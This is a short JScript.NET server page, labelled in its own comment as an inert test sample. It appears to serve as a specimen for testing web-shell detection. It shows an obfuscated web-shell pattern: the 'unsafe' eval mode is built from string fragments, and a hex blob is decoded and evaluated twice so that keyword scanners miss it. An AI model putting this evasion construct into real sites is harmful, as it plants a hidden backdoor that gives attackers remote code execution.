<script runat="server" language="JScript">
// inert test sample: a JScript.NET page that decodes its own hex blob and evaluates it with the
// 'unsafe' override assembled from pieces in a helper, so neither the word nor a request read shows
function runIt(src) {
	var p1 = "un";
	var p2 = "fe";
	var mode = p1 + "sa" + p2;
	var out = eval(src, mode);
	return out;
}
function unhex(blob, shift) {
	var text = "";
	for (var i = 0; i < blob.length; i += 2) {
		var code = int("0x" + blob.substr(i, 2)) - shift;
		text = text + char(code);
	}
	return text;
}
</script>
<%
runIt(runIt(unhex("537771777a6c7d2f696f6d6b2f6f6d6b2e2c", 8)));
%>
